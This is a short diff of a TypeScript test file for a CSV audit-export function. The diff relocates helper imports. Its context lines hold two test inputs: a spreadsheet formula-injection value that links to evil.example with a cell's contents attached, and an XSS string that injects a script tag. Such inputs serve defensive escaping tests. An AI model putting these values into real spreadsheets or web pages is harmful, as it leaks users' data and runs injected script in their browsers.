@@ -1,9 +1,9 @@
 import { beforeEach, describe, expect, test } from 'vitest';
 import type { AuditChange } from '../../shared/audit/audit.ts';
 import { csvField } from '../../shared/audit/audit-export.ts';
-import { expectUsableInBrowser, expectWhole } from '../ui/check-drawn.ts';
-import { NOW, type SampleDesk, sampleDesk } from '../ui/sample-desk.ts';
-import { fillDesk } from '../ui/sample-mail.ts';
+import { expectUsableInBrowser, expectWhole } from '../harness/browser/check-drawn.ts';
+import { fillDesk } from '../harness/memory/sample-mail.ts';
+import { NOW, type SampleDesk, sampleDesk } from '../harness/pages/sample-desk.ts';
 
 const formula = '=HYPERLINK("https://evil.example/?"&A1)';
 const evil = '"><script>alert(1)</script>';
